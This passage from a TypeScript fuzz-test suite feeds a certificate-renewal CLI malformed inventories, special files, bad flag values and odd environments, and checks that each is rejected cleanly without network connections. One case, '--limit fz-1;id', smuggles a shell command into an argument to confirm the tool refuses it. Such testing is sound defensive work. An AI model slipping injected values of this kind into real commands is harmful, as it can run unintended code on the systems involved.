  writeFileSync(join(dir, 'big.yaml'), Buffer.alloc(10 * 1024 * 1024 + 1, 0x20));
  symlinkSync(join(dir, 'loop-b.yaml'), join(dir, 'loop-a.yaml'));
  symlinkSync(join(dir, 'loop-a.yaml'), join(dir, 'loop-b.yaml'));
  symlinkSync('/dev/zero', join(dir, 'zero-link.yaml'));
  const fifo = join(dir, 'fifo.yaml');
  const mkfifo = (() => { try { execFileSync('mkfifo', [fifo]); return true; } catch { return false; } })();
  const specialFiles: Array<[string, RegExp]> = [
    ...(mkfifo ? [[fifo, /a FIFO \(named pipe\), not a regular file/] as [string, RegExp]] : []),
    ['/dev/zero', /a character device, not a regular file/],
    ['/dev/null', /a character device, not a regular file/],
    [join(dir, 'zero-link.yaml'), /a character device, not a regular file/],
    [join(dir, 'a-directory.yaml'), /a directory, not a regular file/],
    [join(dir, 'big.yaml'), /10485761 bytes, over the 10 MiB limit for input files/],
    [join(dir, 'no-such-file.yaml'), /file not found/],
    [join(dir, 'loop-a.yaml'), /too many symbolic links/],
    [join(goodInv, 'below-a-file.yaml'), /a part of the path is not a directory/],
  ];
  for (const [f, why] of specialFiles) {
    cases.push({ id: id(`file-inventory-${f}`), args: ['plan', '-i', f, goodPb], broken: [f], noLine: true, mention: new RegExp(`cannot read the inventory: ${why.source}`) });
    cases.push({ id: id(`file-playbook-${f}`), args: ['run', '--yes', '-i', goodInv, f], broken: [f], noLine: true, mention: new RegExp(`cannot read the playbook: ${why.source}`) });
  }
  cases.push({ id: id('file-check-inventory-fifo'), args: ['check', '-i', mkfifo ? fifo : '/dev/zero'], broken: [mkfifo ? fifo : '/dev/zero'], noLine: true, mention: /not a regular file/ });
  cases.push({ id: id('file-backups-inventory-dev-zero'), args: ['backups', '-i', '/dev/zero'], broken: ['/dev/zero'], noLine: true, mention: /a character device/ });
  cases.push({ id: id('file-rollback-inventory-fifo'), args: ['rollback', '-i', mkfifo ? fifo : '/dev/zero', '--from-backup', '/srv/kubernetes-bak-20261123T094300Z-a1b2c3', goodPb], broken: [mkfifo ? fifo : '/dev/zero'], noLine: true, mention: /not a regular file/ });

  // 8. Command-line values.
  const numeric: Array<[string, string[], RegExp]> = [
    ['pause', ['plan', '-i', goodInv, goodPb], /--pause: expected a number 0-3600 \(seconds\)/],
    ['pause', ['run', '--yes', '-i', goodInv, goodPb], /--pause: expected a number 0-3600 \(seconds\)/],
    ['pause', ['rollback', '-i', goodInv, '--run', '20261123T094300Z-a1b2c3'], /--pause: expected a number 0-3600/],
    ['forks', ['plan', '-i', goodInv, goodPb], /--forks: expected an integer 1-1000 \(hosts\)/],
    ['forks', ['check', '-i', goodInv], /--forks: expected an integer 1-1000/],
    ['forks', ['backups', '-i', goodInv], /--forks: expected an integer 1-1000/],
    ['renew-within-days', ['plan', '-i', goodInv, goodPb], /--renew-within-days: expected a number 0-36500 \(days\)/],
    ['renew-within-days', ['run', '--yes', '-i', goodInv, goodPb], /--renew-within-days: expected a number 0-36500/],
    ['warn-days', ['check', '-i', goodInv], /--warn-days: expected a number 0-36500 \(days\)/],
  ];
  const badNumbers: Record<string, string[]> = {
    pause: ['NaN', '-1', '1e309', 'abc', '', ' ', '3601', 'Infinity', '0x10', '1,5', '--json'],
    forks: ['0', '-1', '1.5', '1e309', 'abc', '1001', 'NaN', ''],
    'renew-within-days': ['-1', 'NaN', '1e309', 'ninety', '36501', ''],
    'warn-days': ['-1', 'NaN', '1e309', 'abc', '36501', '-Infinity', ''],
  };
  for (const [flag, base, mention] of numeric)
    // A value like -Infinity would be read by yargs as short flags (-I -n -f …): written --flag=value, as a user must.
    for (const v of badNumbers[flag]!) flagCase(`flag-${flag}-${base[0]}-${v}`, [...base, ...(/^-[A-Za-z]/.test(v) ? [`--${flag}=${v}`] : [`--${flag}`, v])], mention);
  // A flag with no value at the end of the line would otherwise silently take its default.
  for (const [flag, base, mention] of numeric) flagCase(`flag-${flag}-${base[0]}-no-value`, [...base, `--${flag}`], new RegExp(`${mention.source}.*, got (nothing|"")`));
  for (const v of ['0', '-1', '1.5', 'abc']) flagCase(`flag-keep-${v}`, ['backups', '-i', goodInv, '--prune', '--keep', v], /--keep: expected an integer 1-100000/);
  const twice: Array<[string, string[]]> = [
    ['pause', ['plan', '-i', goodInv, goodPb, '--pause', '1', '--pause', '2']],
    ['forks', ['plan', '-i', goodInv, goodPb, '--forks', '5', '--forks', '5']],
    ['inventory', ['plan', '-i', goodInv, '-i', goodInv, goodPb]],
    ['inventory', ['check', '-i', goodInv, '--inventory', goodInv]],
    ['limit', ['check', '-i', goodInv, '--limit', 'fz-1', '--limit', 'fz-2']],
    ['limit', ['backups', '-i', goodInv, '-l', 'fz-1', '-l', 'etcd']],
    ['warn-days', ['check', '-i', goodInv, '--warn-days', '1', '--warn-days', '2']],
    ['output', ['check', '-i', goodInv, '-o', join(dir, 'a.prom'), '-o', join(dir, 'b.prom')]],
    ['format', ['check', '-i', goodInv, '--format', 'json', '--format', 'table']],
    ['renew-within-days', ['run', '--yes', '-i', goodInv, goodPb, '--renew-within-days', '1', '--renew-within-days', '2']],
    ['run', ['rollback', '-i', goodInv, '--run', 'a', '--run', 'b']],
    ['on-failure', ['run', '--yes', '-i', goodInv, goodPb, '--on-failure', 'stop', '--on-failure', 'rollback-all']],
  ];
  for (const [flag, args] of twice) flagCase(`flag-twice-${flag}`, args, new RegExp(`--${flag} given 2 times .*: give it once`));
  for (const v of ['', ' ', '\t'])
    for (const cmd of [['check', '-i', goodInv], ['backups', '-i', goodInv]]) flagCase(`flag-limit-blank-${cmd[0]}`, [...cmd, '--limit', v], /--limit: empty; a limit must name hosts or groups/);
  for (const v of [',', ' , : ', ':'])
    flagCase(`flag-limit-separators-${v}`, ['check', '-i', goodInv, '--limit', v], /--limit: .* names no host or group \(leave --limit out to select every host\)/);
  flagCase('flag-limit-unknown', ['check', '-i', goodInv, '--limit', 'nosuch'], /--limit: "nosuch" matches no host or group/);
  flagCase('flag-limit-bang-unknown', ['check', '-i', goodInv, '--limit', '!fz-9'], /"fz-9" matches no host or group/);
  flagCase('flag-limit-bad-term', ['check', '-i', goodInv, '--limit', 'fz-1;id'], /bad term "fz-1;id"/);
  const badOutputs: Array<[string, RegExp]> = [
    [join(dir, 'no-such-dir', 'x.prom'), /the directory .* does not exist/],
    [join(goodInv, 'x.prom'), /is not a directory/],
    [dir, /exists and is not a regular file/],
    ['/proc/certroll.prom', /cannot create a file in \/proc/],
    ['', /--output: empty/],
    [mkfifo ? fifo : '/dev/null', /exists and is not a regular file/],
  ];
  for (const [o, mention] of badOutputs) flagCase(`flag-output-${o}`, ['check', '-i', goodInv, '--format', 'prometheus', '-o', o], mention);
  // root writes through permission bits: a read-only place for root is /sys.
  flagCase('flag-output-readonly', ['check', '-i', goodInv, '-o', process.getuid?.() === 0 ? '/sys/kernel/certroll.prom' : join(dir, 'ro', 'x.prom')], /cannot create a file in .* \((EACCES|EPERM|EROFS)\)/);
  flagCase('missing-playbook-plan', ['plan', '-i', goodInv], /missing PLAYBOOK: certroll plan -i INVENTORY PLAYBOOK/);
  flagCase('missing-playbook-run', ['run', '--yes', '-i', goodInv], /missing PLAYBOOK: certroll run -i INVENTORY PLAYBOOK/);
  flagCase('blank-playbook-plan', ['plan', '-i', goodInv, ''], /missing PLAYBOOK/);
  flagCase('blank-playbook-run', ['run', '-i', goodInv, ' '], /missing PLAYBOOK/);
  flagCase('missing-inventory-plan', ['plan', goodPb], /Missing required argument: inventory/);
  flagCase('blank-inventory', ['plan', '-i', '', goodPb], /--inventory: empty/);
  flagCase('blank-inventory-check', ['check', '-i', ' '], /--inventory: empty/);
  flagCase('unknown-flag', ['plan', '-i', goodInv, goodPb, '--pasue', '3'], /Unknown argument: pasue/);
  flagCase('two-playbooks', ['plan', '-i', goodInv, goodPb, goodPb], /Unknown argument/);
  flagCase('bad-on-failure', ['run', '--yes', '-i', goodInv, goodPb, '--on-failure', 'ignore'], /Invalid values:[\s\S]*on-failure/);
  flagCase('bad-format', ['check', '-i', goodInv, '--format', 'xml'], /Invalid values:[\s\S]*format/);
  flagCase('json-and-format', ['check', '-i', goodInv, '--json', '--format', 'prometheus'], /--json and --format prometheus contradict each other/);
  flagCase('keep-without-prune', ['backups', '-i', goodInv, '--keep', '2'], /--keep only makes sense with --prune/);
  flagCase('prune-without-keep', ['backups', '-i', goodInv, '--prune'], /--prune needs --keep N/);
  flagCase('no-command', [], /Name a command/);
  flagCase('unknown-command', ['plna'], /Unknown argument: plna|Did you mean plan/);

  // 9. Environments: the same bad inputs under hostile or odd environments still end in exit 3 with the same message.
  const envs: Array<[string, Record<string, string | undefined>]> = [
    ['columns-negative', { COLUMNS: '-5' }],
    ['columns-huge', { COLUMNS: '99999999' }],
    ['term-dumb', { TERM: 'dumb' }],
    ['force-color', { FORCE_COLOR: '3' }],
    ['no-color', { NO_COLOR: '1' }],
    ['home-missing', { HOME: join(dir, 'no-such-home') }],
    ['home-unset', { HOME: undefined }],
    ['lang-bogus', { LANG: 'xx_XX.bogus', LC_ALL: 'xx_XX.bogus' }],
    ['tz-bogus', { TZ: 'Nowhere/Bogus' }],
    ['xdg-relative', { XDG_STATE_HOME: 'relative/path' }],
    ['certroll-home-is-a-file', { CERTROLL_HOME: goodInv }],
    ['db-password-empty', { CERTROLL_DB_PASSWORD: '' }],
  ];
  const envBases: Array<[string, () => Omit<Case, 'id'>]> = [
    ['template', () => { const p = steps(); (stepOf(p, 'rolling-restart').containerCheck as string[]).push('{{ host.nosuch }}'); const f = write(`env-${n}-pb.yaml`, dumpY(p)); return { args: ['run', '--yes', '-i', goodInv, f], broken: [f], mention: /\{\{ host\.nosuch \}\}/, files: { inventory: goodInv, playbook: f } }; }],
    ['pause', () => ({ args: ['plan', '-i', goodInv, goodPb, '--pause', 'NaN'], broken: [], mention: /--pause: expected a number/ })],
  ];
  for (const [ename, env] of envs)
    for (const [bname, base] of envBases) cases.push({ id: id(`env-${ename}-${bname}`), env, ...base() });
  return cases;
}

let cases: Case[];
beforeAll(async () => {
  listenPort = await listen('0.0.0.0', 0);
  await listen('::', listenPort, true).catch(() => undefined); // no IPv6 on this machine: IPv4 is what the inventories use
  validPlaybookText = readFileSync('playbooks/tos-etcd-renew.yaml', 'utf8');
  cases = makeCases(prng(SEED));
  mkdirSync(join(dir, 'ro'));
  chmodSync(join(dir, 'ro'), 0o555);
});

interface Outcome {
  code: number | null;
  stdout: string;
  stderr: string;
  /** Wall-clock milliseconds. */
  ms: number;
  /** CPU milliseconds (user + system) of the CLI, when measured. */
  cpuMs?: number;
  timedOut: boolean;
}

let timeFiles = 0;
function runCli(c: Case): Promise<Outcome> {
  const env: Record<string, string> = { ...process.env, NO_COLOR: '1', CERTROLL_HOME: join(dir, 'home') } as Record<string, string>;
  for (const [k, v] of Object.entries(c.env ?? {})) {
    if (v === undefined) delete env[k];
    else env[k] = v;
  }
  const timeFile = join(dir, `time-${timeFiles++}`);
  const [cmd, args] = TIME ? [TIME, ['-f', '%e %U %S', '-o', timeFile, process.execPath, CLI, ...c.args]] : [process.execPath, [CLI, ...c.args]];
  const t0 = performance.now();
  return new Promise((resolve) => {
    const child = execFile(cmd, args, { env, maxBuffer: 1 << 26, timeout: WALL_LIMIT_MS, killSignal: 'SIGKILL' }, (err, stdout, stderr) => {
      const e = err as (NodeJS.ErrnoException & { code?: number | string; killed?: boolean }) | null;
      let cpuMs: number | undefined;
      if (TIME && existsSync(timeFile)) {
        const [, user, sys] = readFileSync(timeFile, 'utf8').trim().split('\n').pop()!.split(' ').map(Number);
        if (Number.isFinite(user) && Number.isFinite(sys)) cpuMs = (user! + sys!) * 1000;
      }
      // GNU time appends "Command exited with non-zero status N" to its -o file, not to stderr: stderr is certroll's.
      resolve({ code: e ? (typeof e.code === 'number' ? e.code : null) : 0, stdout, stderr, ms: performance.now() - t0, ...(cpuMs !== undefined ? { cpuMs } : {}), timedOut: Boolean(e?.killed) });
    });
    child.stdin?.end();
  });
}

/** What is wrong with how a case ended on the real CLI, or an empty list. */
function judgeCli(c: Case, o: Outcome): string[] {
  const p: string[] = [];
  const want = c.code ?? 3;
  if (o.timedOut) p.push(`hung (killed after ${WALL_LIMIT_MS / 1000} s)`);
  if (o.code !== want) p.push(`exit ${o.code}, expected ${want}`);
  if (o.code === 70 || /internal error/.test(o.stderr)) p.push('internal error');
  if (/\n\s+at .+:\d+:\d+\)?/.test(o.stderr)) p.push('stack trace');
  if (!/^error: /m.test(o.stderr)) p.push('no "error:" line');
  if (o.stdout.trim()) p.push(`printed on stdout: ${o.stdout.slice(0, 100)}`);
  if (c.mention && !c.mention.test(o.stderr)) p.push(`message does not match ${c.mention}`);
  if (c.broken.length) {
    if (!c.broken.some((f) => o.stderr.includes(f.length > 80 ? f.slice(0, 80) : f))) p.push('the broken file is not named');
    else if (!c.noLine && !c.broken.some((f) => new RegExp(`${esc(f)}:\\d+`).test(o.stderr))) p.push('no file:line');
  } else if (c.files && !c.noLine && ![c.files.inventory, c.files.playbook].some((f) => new RegExp(`${esc(f)}:\\d+`).test(o.stderr))) p.push('no file:line');
  if (!c.broken.length && !c.files && !/--[a-z-]+|PLAYBOOK|inventory|command/.test(o.stderr)) p.push('the flag is not named');
  const cost = o.cpuMs ?? o.ms;
  if (cost > CASE_LIMIT_MS) p.push(`took ${Math.round(cost)} ms of ${o.cpuMs !== undefined ? 'CPU' : 'wall clock'} (limit ${CASE_LIMIT_MS})`);
  return p;
}

/** What is wrong with an in-process InputError for a YAML case: every issue names a file it was given, a line and a field. */
function judgeInProcess(c: Case, err: unknown): string | null {
  const f = c.files!;
  if (err === null) return 'accepted as valid';
  if (!(err instanceof InputError)) return `not an InputError: ${err instanceof Error ? `${err.name}: ${err.message.slice(0, 300)}` : String(err)}`;
  if (!err.issues.length) return 'InputError without issues';
  if (!err.issues.every((i) => i.file === f.inventory || i.file === f.playbook)) return `an issue names another file: ${err.message.slice(0, 300)}`;
  const unlocated = err.issues.filter((i) => !(typeof i.line === 'number' && i.line >= 1));
  if (unlocated.length) return `no line number: ${unlocated.map((i) => i.message.slice(0, 120)).join('; ')}`;
  // A field for every issue except those about the document as a whole (syntax, aliases, a second document, the root).
  const whole = /YAML syntax error|YAML aliases|single YAML document|expected a mapping with hosts|missing required (field|group)|duplicate key|expected a mapping, got|expected a mapping of|no preflight step/;
  const unnamed = err.issues.filter((i) => i.path === '' && !whole.test(i.message));
  if (unnamed.length) return `no field: ${unnamed.map((i) => i.message.slice(0, 120)).join('; ')}`;
  return null;
}

async function pool<T, R>(items: T[], limit: number, fn: (x: T) => Promise<R>): Promise<R[]> {
  const out: R[] = new Array(items.length);
  let next = 0;
  await Promise.all(Array.from({ length: Math.min(limit, items.length) }, async () => {
    while (next < items.length) {
      const i = next++;
      out[i] = await fn(items[i]!);
    }
  }));
  return out;
}

describe('malformed and mistaken input: inventories, playbooks, command lines, environments', () => {
  it('the corpus has at least 300 cases across every kind', () => {
    expect(cases.length).toBeGreaterThanOrEqual(300);
    const kinds = (re: RegExp) => cases.filter((c) => re.test(c.id)).length;
    expect(kinds(/inventory|address|dirs|dup|unusable|long/)).toBeGreaterThanOrEqual(80);
    expect(kinds(/playbook|rule|template|cross/)).toBeGreaterThanOrEqual(80);
    expect(kinds(/flag|missing|blank|unknown|two-|bad-|json-|keep|prune|no-command/)).toBeGreaterThanOrEqual(60);
    expect(kinds(/^\d+-env/)).toBeGreaterThanOrEqual(20);
  });

  it('every YAML case is an InputError whose every issue names its file, a line and a field (in-process)', async () => {
    const failures: string[] = [];
    for (const c of cases.filter((x) => x.files)) {
      let err: unknown = null;
      try {
        await loadInputs(c.files!.inventory, c.files!.playbook);
      } catch (e) {
        err = e;
      }
      const why = judgeInProcess(c, err);
      if (why) failures.push(`${c.id} (seed ${SEED}): ${why}`);
    }
    expect(failures).toEqual([]);
  }, 120_000);

  it('every case on the built CLI: exit 3, file:line or the flag named, no stack trace, under 2 s, and no TCP connection', async () => {
    expect(existsSync(CLI), 'build first: npm run build').toBe(true);
    const before = connections;
    // FUZZ_ONLY=regex runs only the matching case ids (to replay one while fixing it).
    const only = process.env.FUZZ_ONLY ? new RegExp(process.env.FUZZ_ONLY) : undefined;
    const run = only ? cases.filter((c) => only.test(c.id)) : cases;
    const outcomes = await pool(run, CONCURRENCY, runCli);
    const failures = run.flatMap((c, i) => {
      const p = judgeCli(c, outcomes[i]!);
      return p.length ? [`${c.id} [${c.args.map((a) => a.slice(0, 60)).join(' ')}]: ${p.join('; ')}\n    ${outcomes[i]!.stderr.slice(0, 300).replace(/\n/g, '\n    ')}`] : [];
    });
    expect(failures).toEqual([]);
    expect(outcomes.filter((o) => o.code === 70)).toHaveLength(0);
    expect(connections - before, 'TCP connections to the test inventories\' hosts').toBe(0);
    const worst = Math.max(...outcomes.map((o) => o.cpuMs ?? o.ms));
    expect(worst).toBeLessThan(CASE_LIMIT_MS);
    expect(Math.max(...outcomes.map((o) => o.ms))).toBeLessThan(WALL_LIMIT_MS);
  }, 600_000);

  it('the listener does count connections (the zero above is not vacuous)', async () => {
    const { connect } = await import('node:net');
    const before = connections;
    await new Promise<void>((resolve) => connect({ host: '127.0.99.2', port: listenPort }).on('close', () => resolve()).on('error', () => resolve()));
    await new Promise((r) => setTimeout(r, 50));
    expect(connections - before).toBe(1);
  });
});

// Once known gaps (written as `it.fails` before issue 9), now ordinary tests.
describe('former gaps', () => {
  const outcome = async (inventory: string, playbook: string) => {
    try {
      await loadInputs(inventory, playbook);
      return null;
    } catch (e) {
      return e;
    }
  };

  it('a document that is not a mapping, and "no etcd hosts", are reported with a line and a field', async () => {
    const inv = join(dir, 'gap-scalar.yaml');
    writeFileSync(inv, '- just\n- a list\n');
    const noEtcd = validInventory() as Record<string, any>;
    noEtcd.groups.etcd = [];
    const inv2 = join(dir, 'gap-no-etcd.yaml');
    writeFileSync(inv2, dump(noEtcd));
    const pb = join(dir, 'good-playbook.yaml');
    for (const i of [inv, inv2]) expect(judgeInProcess({ id: 'gap', args: [], broken: [i], files: { inventory: i, playbook: pb } }, await outcome(i, pb))).toBeNull();
    const e = (await outcome(inv2, pb)) as InputError;
    expect(e.issues).toEqual([expect.objectContaining({ path: 'groups.etcd', line: dump(noEtcd).split('\n').findIndex((l) => l.startsWith('  etcd:')) + 1 })]);
  });

  it('a template reference to an unknown variable ({{ vars.nosuch }}) is refused at load time, before any connection', async () => {
    const p = validPlaybook();
    stepOf(p, 'rolling-restart').apiserverCheck = ['sh', '-c', 'echo {{ vars.nosuch }}'];
    const pb = join(dir, 'gap-template.yaml');
    writeFileSync(pb, dump(p));
    const inv = join(dir, 'good-inventory.yaml');
    const err = await outcome(inv, pb);
    expect(judgeInProcess({ id: 'gap', args: [], broken: [pb], files: { inventory: inv, playbook: pb } }, err)).toBeNull();
    expect((err as InputError).issues[0]).toMatchObject({ file: pb, path: 'steps[5].apiserverCheck[2]' });
  });
});
